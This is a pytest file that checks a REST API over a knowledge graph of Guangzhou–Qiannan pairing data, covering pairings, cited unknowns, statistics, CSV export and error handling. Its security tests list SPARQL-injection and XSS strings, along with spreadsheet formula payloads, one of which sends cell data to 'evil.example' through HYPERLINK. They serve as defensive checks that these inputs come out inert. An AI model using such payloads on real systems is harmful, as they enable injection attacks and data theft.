"""The REST API over the real data, through HTTP (TestClient): answers, CSV, errors."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pandas as pd
import pytest
from api.tabular import inert
from fastapi.testclient import TestClient

from kg.config import project_root
from tests.conftest import FIXTURES
from tests.fixtures.memory_store import MemoryStore
from tests.network_support import map_data

BASE = "https://w3id.org/gq-kg/"
HUISHUI = BASE + "id/division/522731"


@pytest.mark.parametrize("party", ["惠水县", "惠水", "huishui", "Huishui County", "522731"])
def test_pairings_of_a_party_by_any_name(api: TestClient, party: str) -> None:
    response = api.get("/api/pairings", params={"party": party})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["status"] == "known"
    assert body["filters"]["party"]["iri"] == HUISHUI
    helpers = {p["helper"]["label"] for p in body["pairings"]}
    assert {"荔湾区", "南沙区"} <= helpers  # 2021- and 2017-2020 (data/reference/pairings.csv)
    for pairing in body["pairings"]:
        assert pairing["recipient"]["iri"] == HUISHUI
        assert pairing["recipient"]["label_en"] == "Huishui County"
        assert pairing["evidence"] in {"stated", "inferred"}
        assert pairing["citations"], pairing["iri"]
        assert all(c["text"] and c["document"] for c in pairing["citations"])


def test_pairings_filters_combine(api: TestClient) -> None:
    body = api.get(
        "/api/pairings",
        params={"helper": "白云区", "recipient": "luodian", "level": "district-county"},
    ).json()
    assert body["status"] == "known"
    assert {(p["helper"]["code"], p["recipient"]["code"]) for p in body["pairings"]} == {
        ("440111", "522728")
    }
    # 白云区 paired with 平塘县 2016-2020 and again from 2021 (both inferred).
    ended = api.get(
        "/api/pairings", params={"helper": "440111", "recipient": "平塘县", "year": 2018}
    ).json()
    assert [p["period"]["end"] for p in ended["pairings"]] == ["2020-12-31"]
    assert [p["period"]["end_precision"] for p in ended["pairings"]] == ["year"]
    inferred = api.get("/api/pairings", params={"party": "平塘", "evidence": "inferred"}).json()
    assert inferred["pairings"]
    assert all(p["evidence"] == "inferred" for p in inferred["pairings"])


def test_no_known_partner_is_unknown_not_empty(api: TestClient) -> None:
    body = api.get(
        "/api/pairings", params={"recipient": "福泉市", "level": "DistrictToCounty"}
    ).json()
    assert body["status"] == "unknown"
    assert body["pairings"] == []
    (unknown,) = body["unknown"]
    assert unknown["party"]["code"] == "522702"
    assert "no source known to kg names a partner" in unknown["note"]


def test_recorded_unknown_cites_its_source(api: TestClient) -> None:
    # data/reference/unknown-partners.csv: no source known to kg names 长顺县's partner district.
    body = api.get("/api/pairings", params={"party": "changshun", "level": "DistrictToCounty"})
    answer = body.json()
    assert answer["status"] == "unknown"
    # One record per round (2016-2020, 2021+), each with its citation.
    assert len(answer["unknown"]) == 2
    for unknown in answer["unknown"]:
        assert unknown["party"]["label"] == "长顺县"
        assert unknown["level"]["id"] == "gq:DistrictToCounty"
        assert unknown["citations"]
        assert all(c["text"] for c in unknown["citations"])


def _qiannan_county_codes() -> list[str]:
    """The county-level divisions of 黔南州, read from the reference table itself."""
    path = project_root() / "data" / "reference" / "divisions.csv"
    with path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    return [r["adcode"] for r in rows if r["parent_zh"] == "黔南布依族苗族自治州"]


def test_every_qiannan_county_has_a_partner_or_a_recorded_unknown(api: TestClient) -> None:
    # Unknown must be said explicitly, with the source that records it: a county that is
    # "unknown" only because nothing is in the graph (福泉市 before its row) fails here.
    codes = _qiannan_county_codes()
    assert len(codes) == 12
    for code in codes:
        params = {"recipient": code, "level": "DistrictToCounty"}
        body = api.get("/api/pairings", params=params).json()
        if body["status"] == "known":
            continue
        assert body["unknown"], code
        for unknown in body["unknown"]:
            assert unknown["party"]["code"] == code
            assert unknown["level"]["id"] == "gq:DistrictToCounty", code
            assert unknown["citations"], f"{code}: unknown by absence only"
            assert all(c["text"] for c in unknown["citations"])


def test_in_each_round_every_qiannan_county_is_paired_or_recorded_unknown(
    api: TestClient,
) -> None:
    # 2022: 都匀市's partner 黄埔区 is of 2016-2020 only; the reference notes (L4) leave 都匀市
    # out of the ten counties the article's districts pair with. Unknown, and cited.
    # 2019: the notes (L3) record that pairings of that round are not identified; 荔波县,
    # 贵定县, 罗甸县, 长顺县, 龙里县 and 福泉市 have no known partner then.
    for year in (2019, 2022):
        for code in _qiannan_county_codes():
            params = {"recipient": code, "level": "DistrictToCounty", "year": str(year)}
            body = api.get("/api/pairings", params=params).json()
            if body["status"] == "known":
                assert all(p["period"]["start"] <= f"{year}-12-31" for p in body["pairings"])
                continue
            (unknown,) = body["unknown"]
            assert unknown["citations"], f"{code}: unknown by absence only in {year}"
    duyun = api.get("/api/pairings", params={"party": "都匀市", "year": 2022}).json()
    (unknown,) = duyun["unknown"]
    assert unknown["period"]["start"] == "2021-01-01"
    assert [c["sentence"] for c in unknown["citations"]] == [BASE + "id/document/refnotes/s/4-1"]
    earlier = api.get("/api/pairings", params={"party": "都匀市", "year": 2019}).json()
    assert [p["helper"]["label"] for p in earlier["pairings"]] == ["黄埔区"]


def test_home_table_shows_each_recorded_unknown_with_its_period(api: TestClient) -> None:
    page = api.get("/").text
    table = page.split('id="county-table"', 1)[1].split("</table>", 1)[0]
    rows = table.split("<tr")[1:]
    # 都匀市: 黄埔区 in 2016-2020, then the record that no partner is known from 2021.
    at = next(i for i, r in enumerate(rows) if "/id/division/522701" in r)
    assert "2016 – 2020" in rows[at]
    duyun_unknown = rows[at + 1]
    assert "unknown" in duyun_unknown
    assert 'href="/id/unknown/522701-district-county"' in duyun_unknown
    assert "2021 – ?" in duyun_unknown
    assert 'href="/id/document/refnotes/s/4-1"' in duyun_unknown
    changshun = next(r for r in rows if "/id/division/522729" in r)
    assert "(2021 – ?)" in changshun
    fuquan = next(r for r in rows if "/id/division/522702" in r)
    assert 'href="/id/unknown/522702-district-county"' in fuquan
    assert "?" not in fuquan.split("claim ›", 1)[0]  # no period: none shown


def test_fuquan_unknown_cites_the_reference_notes(api: TestClient) -> None:
    body = api.get("/api/pairings", params={"party": "Fuquan", "year": 2019}).json()
    assert body["status"] == "unknown"
    (unknown,) = body["unknown"]
    assert unknown["party"]["label"] == "福泉市"
    assert unknown["evidence"] == "inferred"
    assert "福泉市" in unknown["rule"]
    assert unknown["period"]["start_precision"] == "unknown"  # no period: any year
    (citation,) = unknown["citations"]
    assert citation["sentence"] == BASE + "id/document/refnotes/s/4-1"
    assert "all but 都匀市 and 福泉市" in citation["text"]


def test_a_recorded_unknown_speaks_only_for_its_period(api: TestClient) -> None:
    # 长顺县's gaps are recorded for the 2016-2020 round and for the 2021+ round (refnotes L3):
    # each is cited for its own years only; for 2015 the graph records nothing (still
    # "unknown", without a citation).
    later = api.get("/api/pairings", params={"party": "长顺县", "year": 2022}).json()
    (unknown,) = later["unknown"]
    assert unknown["period"]["start"] == "2021-01-01"
    assert [c["sentence"] for c in unknown["citations"]] == [BASE + "id/document/refnotes/s/3-1"]
    round_one = api.get("/api/pairings", params={"party": "长顺县", "year": 2019}).json()
    (unknown,) = round_one["unknown"]
    assert (unknown["period"]["start"], unknown["period"]["end"]) == ("2016-01-01", "2020-12-31")
    assert unknown["evidence"] == "inferred"
    earlier = api.get("/api/pairings", params={"party": "长顺县", "year": 2015}).json()
    assert earlier["status"] == "unknown"
    (unknown,) = earlier["unknown"]
    assert unknown["citations"] == []
    assert unknown["period"] is None
    assert unknown["note"].endswith("matching these filters")


def test_the_article_pairings_hold_in_the_year_of_the_article(api: TestClient) -> None:
    # L13.1 "广州282所学校结对帮扶黔南328所学校": no period is stated, the 2023 article says they
    # are paired. They count for 2023 (as the counts of that sentence do), not for 2022.
    body = api.get("/api/pairings", params={"level": "SchoolToSchool", "year": 2023}).json()
    assert body["status"] == "known"
    assert [p["id"] for p in body["pairings"]] == ["id:pairing/gz-qn-schools"]
    assert body["pairings"][0]["period"]["start"] is None
    before = api.get("/api/pairings", params={"level": "SchoolToSchool", "year": 2022}).json()
    assert before["status"] == "unknown"
    # The named query says the same.
    rows = api.get("/api/queries/active-in-year", params={"year": 2023}).json()["rows"]
    active = {row["pairing"]["iri"] for row in rows}
    assert BASE + "id/pairing/gz-qn-schools" in active
    assert BASE + "id/pairing/440112-522726-2021" in active
    assert BASE + "id/pairing/440112-522726-2016-2020" not in active


def test_pairings_csv(api: TestClient) -> None:
    for response in (
        api.get("/api/pairings", params={"party": "罗甸", "format": "csv"}),
        api.get("/api/pairings", params={"party": "罗甸"}, headers={"Accept": "text/csv"}),
    ):
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        # One table: 罗甸县's own pairings, the article's pairing of the group it is (by the
        # notes' inference) a member of, and the round whose partner is unknown.
        kinds = [r["record"] for r in rows]
        assert kinds == ["pairing", "group-pairing", "unknown"]
        own, via, unknown = rows
        assert own["recipient.label"] == "罗甸县"
        assert own["citations.text"]
        assert via["recipient.label"] == "黔南州10个县"
        assert via["via.group.id"] == "id:group/qn-ten-counties"
        assert via["via.evidence"] == "inferred"
        assert via["citations.text"]
        assert via["via.citations.text"]
        assert unknown["party.label"] == "罗甸县"
        assert unknown["period.start"] == "2016-01-01"
        assert unknown["citations.text"]


def test_summary_has_the_aggregate_levels(api: TestClient) -> None:
    body = api.get("/api/pairings/summary").json()
    counts = {(s["helper_count"], s["recipient_count"]) for s in body["levels"]}
    assert {(282, 328), (76, 76), (54, 52), (4, 10)} <= counts
    schools = next(s for s in body["levels"] if s["helper_count"] == 282)
    assert "广州282所学校结对帮扶黔南328所学校" in schools["citations"][0]["text"]


def test_entity_facts_both_directions(api: TestClient) -> None:
    for path in ("division/522731", "id:division/522731", "522731", "惠水县"):
        response = api.get(f"/api/entities/{path}")
        assert response.status_code == 200, (path, response.text)
    body = response.json()
    assert body["entity"]["iri"] == HUISHUI
    assert "gq:County" in {t["id"] for t in body["types"]}
    directions = {f["direction"] for f in body["facts"]}
    assert directions == {"in", "out"}
    labels = {f["value"] for f in body["facts"] if f["property"]["id"] == "rdfs:label"} | {
        f["value"] for f in body["facts"] if f["property"]["iri"].endswith("#label")
    }
    assert {"惠水县", "Huishui County"} <= labels
    # A stable order, whatever order the engine returned the rows in: outgoing first, then by
    # property, value and graph.
    keys = [
        (f["direction"] != "out", f["property"]["iri"],
         f["value"] if isinstance(f["value"], str) else f["value"]["iri"],
         f.get("language") or "", f.get("datatype") or "", f.get("graph") or "")
        for f in body["facts"]
    ]  # fmt: skip
    assert keys == sorted(keys)
    assert [t["iri"] for t in body["types"]] == sorted(t["iri"] for t in body["types"])
    assert api.get("/api/entities/division/999999").status_code == 404
    assert api.get("/api/entities/no such place at all").status_code == 404


def test_entity_list_and_pages(api: TestClient) -> None:
    counties = api.get("/api/entities", params={"type": "County", "limit": 500}).json()
    codes = {e["code"] for e in counties["entities"]}
    assert "522731" in codes
    assert counties["total"] == len(counties["entities"])
    page = api.get("/api/entities", params={"type": "gq:County", "offset": 2, "limit": 2}).json()
    assert page["entities"] == counties["entities"][2:4]
    assert api.get("/api/entities", params={"limit": 0}).status_code == 422


def test_statistics_filters(api: TestClient) -> None:
    body = api.get("/api/statistics", params={"unit": "PersonTime"}).json()
    assert body["count"] > 0
    assert {s["unit"]["id"] for s in body["statistics"]} == {"gq:PersonTime"}
    visits = next(s for s in body["statistics"] if s["value"] == 1279)
    assert visits["original_text"] == "1279人次"
    assert visits["citations"][0]["text"]
    assert api.get("/api/statistics", params={"year": 1990}).json()["count"] == 0


def test_search_route(api: TestClient) -> None:
    body = api.get("/api/search", params={"q": "海珠", "limit": 3}).json()
    assert body["hits"][0]["entity"]["label"] == "海珠区"
    assert len(body["hits"]) <= 3
    typed = api.get("/api/search", params={"q": "罗甸", "type": "County"}).json()
    assert [h["entity"]["code"] for h in typed["hits"]] == ["522728"]


def test_query_catalogue(api: TestClient) -> None:
    listing = api.get("/api/queries").json()
    names = {q["name"] for q in listing["queries"]}
    assert {"pairings", "cq01-district-county-pairings", "api-pairings"} <= names
    # The fix for `--param helper=id:division/440111` silently matching nothing:
    for helper in ("id:division/440111", "440111", "白云区", BASE + "id/division/440111"):
        answer = api.get("/api/queries/pairings", params={"helper": helper}).json()
        assert answer["count"] > 0, helper
        assert {r["helper"]["code"] for r in answer["rows"]} == {"440111"}
    ask = api.get("/api/queries/cq33-ask-changshun-partner").json()
    assert ask["variables"] == ["boolean"]


@pytest.mark.parametrize(
    ("url", "status", "needle"),
    [
        ("/api/queries/nope", 404, "no named query"),
        ("/api/queries/pairings?helpr=x", 422, "no parameter 'helpr'"),
        ("/api/queries/pairings?helper=a&helper=b", 422, "more than once"),
        ("/api/pairings?level=sideways", 422, "level"),
        ("/api/pairings?year=abc", 422, "year"),
        ("/api/pairings?evidence=rumour", 422, "evidence"),
        ("/api/pairings?party=学校", 422, "ambiguous"),
        ("/api/search?q=", 422, "q"),
        ("/api/search?q=x&limit=1000", 422, "limit"),
        # A class that does not exist found nothing, silently (200, an empty list).
        ("/api/entities?type=Countyy", 422, "'Countyy' is not a class"),
        ("/api/search?q=huishui&type=gq:Countyy", 422, "not a class of the ontology"),
        ("/api/entities?type=gq:divisionCode", 422, "not a class"),  # a property
        ("/api/pairings?format=xml", 422, "format"),
    ],
)
def test_bad_input_is_a_readable_4xx(api: TestClient, url: str, status: int, needle: str) -> None:
    response = api.get(url)
    assert response.status_code == status, response.text
    assert needle in response.json()["error"]["message"]


@pytest.mark.parametrize(
    "hostile",
    [
        '"} UNION { ?s ?p ?o } #',
        "<script>alert(1)</script>",
        "\\u0022; DROP ALL",
        "SELECT * WHERE { ?s ?p ?o }",
        "惠" * 2_000 + "x" * 8_000,  # 10 k characters
        "id:division/522731> } ; DELETE {",
        # Characters SPARQL's IRIREF lets through but the IRI grammar does not (U+FFFD from a
        # bad %-escape, a C1 control, private use, a noncharacter, a broken %-escape): each
        # was pasted into the bound query and came back as 400 query_syntax from the engine.
        "https://w3id.org/gq-kg/id/division/\ufffd",
        "https://w3id.org/gq-kg/id/division/5227\u008531",
        "https://w3id.org/gq-kg/id/\ue000",
        "https://w3id.org/gq-kg/id/\uffff",
        "https://w3id.org/gq-kg/id/%ZZ",
        "\x00" * 200,  # a prefix of every search key in SQLite: a 500 (score over 100)
    ],
)
def test_hostile_strings_are_inert(api: TestClient, hostile: str) -> None:
    for url, name in (
        ("/api/pairings", "party"),
        ("/api/pairings", "helper"),
        ("/api/pairings", "recipient"),
        ("/api/search", "q"),
        ("/api/statistics", "subject"),
        ("/api/queries/pairings", "helper"),
        ("/api/entities", "q"),
        ("/api/network/path", "from"),
    ):
        response = api.get(url, params={name: hostile, "to": "id:division/522731"})
        assert response.status_code in {200, 404, 422}, (url, response.text)
        if response.status_code != 200:
            assert response.json()["error"]["status"] == response.status_code
    paths = [f"/api/entities/{quote(hostile[:400])}"]
    if "\x00" not in hostile:  # httpx refuses to send a raw NUL
        paths.append(f"/api/entities/{hostile[:400]}")
    for path in paths:
        response = api.get(path)
        assert response.status_code in {404, 422}, (path, response.text)


def test_a_query_reads_its_declared_default_graph(api: TestClient) -> None:
    """`#+ default-graph: graph/ontology` (page-terms): the catalogue, the pages and `kg query`
    run it over the ontology graph only — no data entity among its terms (with a `GRAPH ?g`
    bound by VALUES it took 36 s at 10M quads)."""
    from kg.queries import get_query

    base, county = "https://w3id.org/gq-kg/", "https://w3id.org/gq-kg/ontology#County"
    query = get_query("page-terms")
    assert query.default_graphs(base) == (base + "graph/ontology",)
    body = api.get("/api/queries/page-terms").json()
    terms = {row["term"]["iri"] for row in body["rows"]}
    assert county in terms
    assert len(terms) > 100
    assert not [t for t in terms if t.startswith(base + "id/")]
    page = api.get("/ontology")
    assert page.status_code == 200
    assert "County" in page.text


def test_statistics_of_a_subject_are_the_whole_list_filtered(api: TestClient) -> None:
    """?subject= lists the subject's statistics from the subject (api-statistic-ids-by); the
    answer is exactly the whole list filtered by subject, for every subject."""
    every = api.get("/api/statistics").json()["statistics"]
    subjects = {s["subject"]["id"] for s in every if s.get("subject")}
    assert len(subjects) >= 2
    for subject in sorted(subjects):
        body = api.get("/api/statistics", params={"subject": subject}).json()
        assert body["statistics"] == [
            s for s in every if (s.get("subject") or {}).get("id") == subject
        ]
        assert body["count"] == len(body["statistics"]) > 0


def test_statistics_page_through_every_statistic(api: TestClient) -> None:
    """Without filters the IRIs come first and only one page's details are read
    (api-statistic-ids, api-statistics-of): the pages put together are the whole list, as the
    filtered path (the full query) sorts it."""
    whole = api.get("/api/statistics").json()
    assert whole["total"] == whole["count"] == len(whole["statistics"]) > 20
    assert (whole["offset"], whole["limit"]) == (0, 500)
    iris = [s["iri"] for s in whole["statistics"]]
    assert iris == sorted(iris)
    pages = []
    for offset in range(0, whole["total"], 7):
        body = api.get("/api/statistics", params={"offset": offset, "limit": 7}).json()
        assert body["total"] == whole["total"]
        assert body["count"] == len(body["statistics"]) <= 7
        pages.extend(body["statistics"])
    assert pages == whole["statistics"]
    # The full query of the catalogue (api-statistics) holds the same statistics.
    full = api.get("/api/queries/api-statistics").json()
    assert {row["statistic"]["iri"] for row in full["rows"]} == set(iris)
    # Filtered by unit, then put together: the statistics that have a unit.
    units = {s["unit"]["id"] for s in whole["statistics"] if s.get("unit")}
    by_unit = [
        s
        for unit in sorted(units)
        for s in api.get("/api/statistics", params={"unit": unit}).json()["statistics"]
    ]
    assert sorted(by_unit, key=lambda s: s["iri"]) == [
        s for s in whole["statistics"] if s.get("unit")
    ]
    beyond = api.get("/api/statistics", params={"offset": whole["total"]}).json()
    assert (beyond["count"], beyond["statistics"], beyond["total"]) == (0, [], whole["total"])
    for bad in ({"limit": 0}, {"limit": 501}, {"offset": -1}):
        assert api.get("/api/statistics", params=bad).status_code == 422


def test_statistics_filters_together_are_the_whole_list_filtered(api: TestClient) -> None:
    """measure, unit and year together: the intersection of the IRIs by each value, the year
    from the details — the same as filtering the whole list."""
    every = api.get("/api/statistics").json()["statistics"]

    def ref(s: dict[str, Any], name: str) -> str | None:
        value = s.get(name)
        return value["id"] if value else None

    pairs = sorted({(ref(s, "measure"), ref(s, "unit")) for s in every} - {(None, None)}, key=str)
    assert len(pairs) >= 2
    for measure, unit in pairs:
        params = {k: v for k, v in (("measure", measure), ("unit", unit)) if v}
        want = [s for s in every if all(ref(s, k) == v for k, v in params.items())]
        body = api.get("/api/statistics", params=params).json()
        assert body["statistics"] == want, params
        assert body["total"] == len(want)
    # The year is read from the details: a page of the year's figures is a slice of them all.
    year = api.get("/api/statistics", params={"year": 2023}).json()
    assert 0 < year["total"] < len(every)
    assert all(s in every for s in year["statistics"])
    first = api.get("/api/statistics", params={"year": 2023, "limit": 2, "offset": 1}).json()
    assert first["statistics"] == year["statistics"][1:3]
    assert first["total"] == year["total"]


def test_the_article_counts_as_of_2023_are_figures_of_2023(api: TestClient) -> None:
    # L13.1 "广州282所学校结对帮扶黔南328所学校" is a count as of the 2023 article (a stock with
    # no start): a figure of 2023. A flow of "recent years" (L27.3 39家, no start) is not: how
    # much of it fell in 2023 is not said.
    body = api.get("/api/statistics", params={"year": 2023}).json()
    texts = {s["original_text"] for s in body["statistics"]}
    assert {"282所学校", "328所学校", "15个", "141个", "3.45万人"} <= texts
    assert "39家" not in texts
    assert all(s["kind"] in {"stock", "flow"} for s in body["statistics"])
    schools = next(s for s in body["statistics"] if s["original_text"] == "282所学校")
    assert schools["kind"] == "stock"
    assert schools["period"]["start"] is None
    assert api.get("/api/statistics", params={"year": 2022}).json()["total"] == 0


def test_statistics_of_a_year_are_those_whose_period_covers_it(api: TestClient) -> None:
    """?year= is a query (api-statistic-ids-in-year) that reads years as kg reads periods: the
    same statistics as the whole list filtered in Python, for every year around the data."""
    every = api.get("/api/statistics").json()["statistics"]

    def year_of(value: str | None) -> int | None:
        return int(value[:4]) if value and value[:4].isdigit() else None

    def covers(statistic: dict[str, Any], year: int) -> bool:
        period = statistic.get("period") or {}
        start, end = year_of(period.get("start")), year_of(period.get("end"))
        if start is None:  # a stock is a level as of its end; a flow's share is unknown
            return statistic["kind"] == "stock" and end == year
        return start <= year and (end is None or end >= year)

    seen = 0
    for year in range(2010, 2027):
        want = [s for s in every if covers(s, year)]
        body = api.get("/api/statistics", params={"year": year}).json()
        assert body["statistics"] == want, year
        seen += len(want)
    assert seen > 0


def test_csv_cells_never_start_a_formula(web_app: Callable[..., TestClient]) -> None:
    """tests/fixtures/hostile.trig holds labels and a relation text that a spreadsheet would
    run as formulas (=HYPERLINK, @SUM…|cmd, +1+cmd): in CSV each starts with an apostrophe;
    JSON and numbers are untouched."""
    hostile = FIXTURES / "hostile.trig"
    client = web_app(MemoryStore(hostile), dataset_file=hostile)
    formulas = ("=", "+", "-", "@", "\t", "\r")
    seen: set[str] = set()
    for url, params in (
        ("/api/entities", {"format": "csv", "limit": "500"}),
        ("/api/search", {"q": "三都", "format": "csv"}),
        ("/api/search", {"q": "SUM", "format": "csv"}),
        ("/api/pairings", {"format": "csv"}),
    ):
        response = client.get(url, params=params)
        assert response.status_code == 200, (url, response.text)
        for row in csv.reader(io.StringIO(response.text)):
            for cell in row:
                assert not cell.startswith(formulas) or re.fullmatch(r"[+-]?[0-9.]+", cell), cell
                seen.add(cell)
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"三都")' in seen
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
    assert "'+1+cmd|' /C calc'!A0" in seen
    # JSON is data, not a spreadsheet: the value as the source has it.
    (pairing,) = client.get("/api/pairings").json()["pairings"]
    assert pairing["relation_text"] == "+1+cmd|' /C calc'!A0"
    assert [inert(v) for v in ("-3.5", "+2", "1e5", "-", "@", "=1")] == [
        "-3.5",
        "+2",
        "1e5",
        "'-",
        "'@",
        "'=1",
    ]


@pytest.mark.parametrize(
    ("empty", "full"),
    [
        ("/api/search?q=zzzqqqxxx", "/api/search?q=luodian"),
        ("/api/entities?offset=100000", "/api/entities"),
        ("/api/entities?q=zzzqqqxxx", "/api/entities?q=luo"),
        ("/api/statistics?offset=100000", "/api/statistics"),
    ],
)
def test_an_empty_csv_answer_still_has_its_header(api: TestClient, empty: str, full: str) -> None:
    # The body was "\r\n": pandas.read_csv raised EmptyDataError ("No columns to parse").
    answer = api.get(empty + ("&" if "?" in empty else "?") + "format=csv")
    assert answer.status_code == 200, answer.text
    table = pd.read_csv(io.StringIO(answer.text))
    assert table.empty
    header = next(csv.reader(io.StringIO(answer.text)))
    full_answer = api.get(full + ("&" if "?" in full else "?") + "format=csv")
    full_header = next(csv.reader(io.StringIO(full_answer.text)))
    assert header == full_header


@pytest.mark.parametrize(
    ("url", "unknown", "known"),
    [
        ("/api/pairings?partyy=522731", "partyy", "party"),
        ("/api/search?q=luo&typ=County", "typ", "type"),
        ("/api/entities?limt=2", "limt", "limit"),
        ("/api/statistics?yaer=2023", "yaer", "year"),
        ("/api/network/centrality?topp=3", "topp", "top"),
    ],
)
def test_a_misspelt_parameter_is_422_not_ignored(
    api: TestClient, url: str, unknown: str, known: str
) -> None:
    # ?partyy=522731 answered every pairing (filters: {}), as if it were the answer for 惠水县.
    response = api.get(url)
    assert response.status_code == 422, response.text
    message = response.json()["error"]["message"]
    assert f"unknown parameter {unknown!r}" in message
    assert known in message.split("takes: ")[1]


def test_declared_parameters_and_cache_busters_are_accepted(api: TestClient) -> None:
    assert api.get("/api/pairings?party=522731&format=csv&_=1733112000000").status_code == 200
    # A named query's parameters are the query's own (checked against its #+ params).
    assert api.get("/api/queries/api-pairings?helper=440111").status_code == 200
    assert api.get("/api/queries/api-pairings?helpr=440111").status_code == 422
    # Pages are opened from shared links that gain tracking parameters: not refused.
    assert api.get("/maps/pairings?utm_source=x").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/api/network/centrality",
        "/api/network/components",
        "/api/network/periods",
    ],
)
def test_network_levels_resolve_like_pairings_and_unknown_is_422(
    api: TestClient, path: str
) -> None:
    # level=bogus answered an empty network (periods: "pairings": 0), and the forms
    # /api/pairings takes (district-county, 区对县) matched nothing either.
    refused = api.get(path, params={"level": "bogus"})
    assert refused.status_code == 422, refused.text
    assert "unknown pairing level 'bogus'" in refused.json()["error"]["message"]
    by_name = api.get(path, params={"level": "DistrictToCounty"}).json()
    assert api.get(path, params={"level": "district-county"}).json() == by_name
    if path.endswith("periods"):
        assert all(p["pairings"] > 0 for p in by_name["periods"])
    elif path.endswith("centrality"):
        assert by_name["nodes"] > 0
    else:
        assert by_name["count"] > 0


def test_map_with_an_unknown_level_is_400(api: TestClient) -> None:
    assert api.get("/maps/pairings", params={"level": "bogus"}).status_code == 400
    assert api.get("/maps/pairings", params={"level": "district-county"}).status_code == 200


@pytest.mark.parametrize(
    ("param", "value", "valid"),
    [
        ("type", "Placee", "Place"),
        ("evidence", "stat", "stated"),
    ],
)
def test_a_network_map_filter_naming_nothing_is_400(
    api: TestClient, param: str, value: str, valid: str
) -> None:
    # An unknown class or evidence grade kept nothing: an empty map, as if there were no such
    # entities or pairings.
    refused = api.get("/maps/network", params={param: value})
    assert refused.status_code == 400, refused.text
    message = refused.json()["error"]["message"]
    assert message.startswith(f"{param} {value!r}: not one of the network's (")
    assert valid in message
    kept = api.get("/maps/network", params={param: valid})
    assert kept.status_code == 200
    assert map_data(kept.text)["nodes"]
